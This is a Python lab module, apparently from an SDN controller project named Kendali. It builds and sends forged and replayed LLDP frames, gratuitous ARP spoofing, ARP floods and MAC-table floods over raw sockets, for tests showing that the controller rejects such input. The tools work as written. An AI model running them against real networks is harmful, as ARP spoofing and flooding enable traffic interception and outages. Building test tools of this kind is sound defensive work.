"""Hostile hosts for lab tests: forged and replayed LLDP, gratuitous ARP, ARP and MAC floods.

What a PC in an OPD can do to the intranet without any privilege on a switch, so the lab
can show that the controller does not believe it (tests/test_lab_trust.py). Each command
runs inside a Mininet host (capture-lldp in the root namespace, on a switch's port), is
bounded in frames and in seconds, stops by itself and prints one JSON line saying what
it sent::

    python -m controller.lab.attack forge-lldp --iface h3-eth0 --dpid 1 --port 2 --seconds 5
    python -m controller.lab.attack capture-lldp --iface t5s1-eth1 --out /tmp/lldp.bin
    python -m controller.lab.attack replay --iface h3-eth0 --frame /tmp/lldp.bin --seconds 5
    python -m controller.lab.attack garp --iface h3-eth0 --mac 02:.. --ip 10.20.1.10 --seconds 5
    python -m controller.lab.attack arp-flood --iface h3-eth0 --src-net 10.20.6.0/23 --seconds 8
    python -m controller.lab.attack mac-flood --iface h3-eth0 --macs 5000 --seconds 8

Frames are built with scapy (the test extra); sending uses one raw AF_PACKET socket, so a
flood goes as fast as Python can hand pre-built frames to the kernel. Needs root. Never
imported by the controller.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import sys
import time
from pathlib import Path

from scapy.contrib.lldp import LLDPDUChassisID, LLDPDUEndOfLLDPDU, LLDPDUPortID, LLDPDUTimeToLive
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import ARP, Ether

LLDP_MAC = "01:80:c2:00:00:0e"  # nearest bridge: what Kendali's own LLDP is sent to
ETH_P_LLDP = 0x88CC
ETH_P_ALL = 0x0003
BROADCAST = "ff:ff:ff:ff:ff:ff"
# Bounds every command keeps, whatever it is asked: a test that forgets to stop an
# attacker must not leave it running into the next test.
MAX_SECONDS = 60.0
MAX_FRAMES = 5_000_000


# ---------------------------------------------------------------- frames


def forged_lldp(src_mac: str, dpid: int, port: int) -> bytes:
    """LLDP in the format Kendali's controller sends (controller/core/frames.py lldp_frame), claiming
    to come from switch ``dpid``, port ``port``: chassis ``kendali:<16 hex digits>``
    (locally assigned), port id the port number in decimal (port component), TTL 10."""
    frame = (Ether(dst=LLDP_MAC, src=src_mac, type=ETH_P_LLDP)
             / LLDPDUChassisID(subtype=LLDPDUChassisID.SUBTYPE_LOCALLY_ASSIGNED, id=b"kendali:%016x" % dpid)
             / LLDPDUPortID(subtype=LLDPDUPortID.SUBTYPE_PORT_COMPONENT, id=b"%d" % port)
             / LLDPDUTimeToLive(ttl=10)
             / LLDPDUEndOfLLDPDU())
    return bytes(frame)


def kendali_lldp_source(frame: bytes) -> tuple[int, int] | None:
    """(dpid, port) that a Kendali LLDP frame claims to come from; None for anything else."""
    try:
        eth = Ether(frame)
    except Exception:  # scapy raises many kinds on garbage
        return None
    if eth.type != ETH_P_LLDP:
        return None
    chassis, port = eth.getlayer(LLDPDUChassisID), eth.getlayer(LLDPDUPortID)
    if chassis is None or port is None:
        return None
    cid = bytes(chassis.id) if not isinstance(chassis.id, str) else chassis.id.encode()
    pid = bytes(port.id) if not isinstance(port.id, str) else port.id.encode()
    if not cid.startswith(b"kendali:"):
        return None
    try:
        return int(cid[8:], 16), int(pid)
    except ValueError:
        return None


def gratuitous_arp(mac: str, ip: str) -> bytes:
    """An unsolicited ARP reply: "ip is at mac", sent from mac to everyone."""
    return bytes(Ether(src=mac, dst=BROADCAST) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=BROADCAST, pdst=ip))


def random_macs(n: int, rng: random.Random) -> list[str]:
    """n distinct random unicast, locally administered MACs (never a real vendor's)."""
    seen: set[str] = set()
    while len(seen) < n:
        b = bytearray(rng.getrandbits(8) for _ in range(6))
        b[0] = (b[0] & 0xFC) | 0x02  # unicast, locally administered
        seen.add(":".join(f"{x:02x}" for x in b))
    return sorted(seen, key=lambda _m: rng.random())


def _random_ips(net: ipaddress.IPv4Network, n: int, rng: random.Random) -> list[str]:
    hosts = net.num_addresses - 2 if net.prefixlen < 31 else net.num_addresses
    base = int(net.network_address) + (1 if net.prefixlen < 31 else 0)
    return [str(ipaddress.IPv4Address(base + rng.randrange(hosts))) for _ in range(n)]


def _mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def arp_flood_frames(n: int, src_net: str, seed: int = 1) -> list[bytes]:
    """n ARP requests, each from its own random MAC and a random address of src_net,
    asking for another random address of src_net (a flood of new "hosts").

    One frame is built by scapy; the others are copies with the addresses patched in
    (building each with scapy would take seconds)."""
    rng = random.Random(seed)
    net = ipaddress.IPv4Network(src_net, strict=False)
    macs, srcs, dsts = random_macs(n, rng), _random_ips(net, n, rng), _random_ips(net, n, rng)
    template = bytearray(bytes(Ether(src=macs[0], dst=BROADCAST) / ARP(op=1, hwsrc=macs[0], psrc=srcs[0],
                                                                        pdst=dsts[0])))
    out = []
    for m, sip, dip in zip(macs, srcs, dsts, strict=True):
        f = bytearray(template)
        mb = _mac_bytes(m)
        f[6:12] = mb  # Ethernet source
        f[22:28] = mb  # ARP sender hardware address
        f[28:32] = ipaddress.IPv4Address(sip).packed  # ARP sender protocol address
        f[38:42] = ipaddress.IPv4Address(dip).packed  # ARP target protocol address
        out.append(bytes(f))
    return out


def mac_flood_frames(n: int, seed: int = 2) -> list[bytes]:
    """n small UDP frames, each from its own random source MAC to a random unicast MAC
    (what macof does to fill a learning switch's table); one IP header for all."""
    rng = random.Random(seed)
    srcs, dsts = random_macs(n, rng), random_macs(n, rng)
    template = bytes(Ether(src=srcs[0], dst=dsts[0]) / IP(src="198.51.100.1", dst="198.51.100.2")
                     / UDP(sport=40000, dport=9) / b"kendali-lab")
    return [_mac_bytes(d) + _mac_bytes(s) + template[12:] for s, d in zip(srcs, dsts, strict=True)]


# ---------------------------------------------------------------- sending


def _socket(iface: str) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    return sock


def blast(iface: str, frames: list[bytes], seconds: float, max_frames: int, rate: float = 0.0) -> dict:
    """Send frames round-robin as fast as possible (or at ``rate`` per second) until
    ``seconds`` or ``max_frames``; frames the kernel refuses (queue full) are counted."""
    seconds, max_frames = min(seconds, MAX_SECONDS), min(max_frames, MAX_FRAMES)
    sock = _socket(iface)
    sent = refused = 0
    n = len(frames)
    t0 = time.monotonic()
    deadline = t0 + seconds
    batch = 64  # frames between clock reads: the clock costs as much as a send
    try:
        while sent + refused < max_frames:
            now = time.monotonic()
            if now >= deadline:
                break
            if rate and sent + refused > (now - t0) * rate:
                time.sleep(min(0.001, deadline - now))
                continue
            for _ in range(min(batch, max_frames - sent - refused)):
                try:
                    sock.send(frames[(sent + refused) % n])
                    sent += 1
                except OSError:  # ENOBUFS: the interface queue is full; that frame is lost
                    refused += 1
    finally:
        sock.close()
    took = time.monotonic() - t0
    return {"sent": sent, "refused": refused, "seconds": round(took, 3),
            "rate_pps": round(sent / took) if took else 0, "distinct_frames": n}


def every(iface: str, frame: bytes, interval: float, seconds: float) -> dict:
    """Send one frame every ``interval`` seconds for ``seconds``."""
    seconds = min(seconds, MAX_SECONDS)
    sock = _socket(iface)
    sent = 0
    t0 = time.monotonic()
    nxt = t0
    try:
        while time.monotonic() - t0 < seconds:
            sock.send(frame)
            sent += 1
            nxt += interval
            delay = nxt - time.monotonic()
            if delay > 0:
                time.sleep(delay)
    finally:
        sock.close()
    return {"sent": sent, "seconds": round(time.monotonic() - t0, 3), "interval": interval}


def capture_lldp(iface: str, timeout: float = 5.0, dpid: int | None = None) -> tuple[bytes, tuple[int, int]]:
    """The first Kendali LLDP frame seen on ``iface`` (either direction), and where it
    claims to come from; from switch ``dpid`` only if given. Raises TimeoutError."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((iface, 0))
    sock.settimeout(0.2)
    deadline = time.monotonic() + min(timeout, MAX_SECONDS)
    try:
        while time.monotonic() < deadline:
            try:
                frame = sock.recv(2048)
            except TimeoutError:
                continue
            if len(frame) < 14 or frame[12:14] != ETH_P_LLDP.to_bytes(2, "big"):
                continue
            src = kendali_lldp_source(frame)
            if src is not None and (dpid is None or src[0] == dpid):
                return frame, src
    finally:
        sock.close()
    raise TimeoutError(f"no Kendali LLDP frame on {iface} within {timeout:g} s")


# ---------------------------------------------------------------- command line


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m controller.lab.attack", description=__doc__.split("\n\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)

    def bounded(p: argparse.ArgumentParser, seconds: float, interval: float | None = None) -> None:
        p.add_argument("--iface", required=True)
        p.add_argument("--seconds", type=float, default=seconds)
        if interval is not None:
            p.add_argument("--interval", type=float, default=interval)

    p = sub.add_parser("forge-lldp", help="LLDP claiming to come from another switch's port")
    bounded(p, 5.0, 0.05)
    p.add_argument("--dpid", type=lambda s: int(s, 0), required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--src-mac", help="default: the interface's own MAC")
    p = sub.add_parser("capture-lldp", help="save one genuine Kendali LLDP frame seen on an interface")
    p.add_argument("--iface", required=True)
    p.add_argument("--out", type=Path, required=True)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("--dpid", type=lambda s: int(s, 0), help="only a frame from this switch")
    p = sub.add_parser("replay", help="send a saved frame again and again")
    bounded(p, 5.0, 0.05)
    p.add_argument("--frame", type=Path, required=True)
    p = sub.add_parser("garp", help="gratuitous ARP replies claiming another host's MAC and IP")
    bounded(p, 5.0, 0.2)
    p.add_argument("--mac", required=True)
    p.add_argument("--ip", required=True)
    p = sub.add_parser("arp-flood", help="ARP requests from random MACs and addresses, as fast as possible")
    bounded(p, 8.0)
    p.add_argument("--src-net", required=True, help="random sender addresses from this network")
    p.add_argument("--macs", type=int, default=20000, help="distinct random sender MACs")
    p.add_argument("--max-frames", type=int, default=1_000_000)
    p.add_argument("--rate", type=float, default=0.0, help="frames per second (0: as fast as possible)")
    p = sub.add_parser("mac-flood", help="frames from thousands of random source MACs")
    bounded(p, 8.0)
    p.add_argument("--macs", type=int, default=5000)
    p.add_argument("--max-frames", type=int, default=1_000_000)
    p.add_argument("--rate", type=float, default=0.0)
    a = ap.parse_args(argv)

    out: dict
    if a.cmd == "capture-lldp":
        frame, (dpid, port) = capture_lldp(a.iface, a.timeout, a.dpid)
        a.out.write_bytes(frame)
        out = {"captured": len(frame), "dpid": dpid, "port": port, "file": str(a.out)}
    elif a.cmd == "forge-lldp":
        mac = a.src_mac or Path(f"/sys/class/net/{a.iface}/address").read_text().strip()
        out = every(a.iface, forged_lldp(mac, a.dpid, a.port), a.interval, a.seconds)
    elif a.cmd == "replay":
        out = every(a.iface, a.frame.read_bytes(), a.interval, a.seconds)
    elif a.cmd == "garp":
        out = every(a.iface, gratuitous_arp(a.mac, a.ip), a.interval, a.seconds)
    elif a.cmd == "arp-flood":
        out = blast(a.iface, arp_flood_frames(a.macs, a.src_net), a.seconds, a.max_frames, a.rate)
    else:
        out = blast(a.iface, mac_flood_frames(a.macs), a.seconds, a.max_frames, a.rate)
    out["command"] = a.cmd
    json.dump(out, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    if os.geteuid() != 0:
        sys.exit("controller.lab.attack: raw sockets need root")
    sys.exit(main())
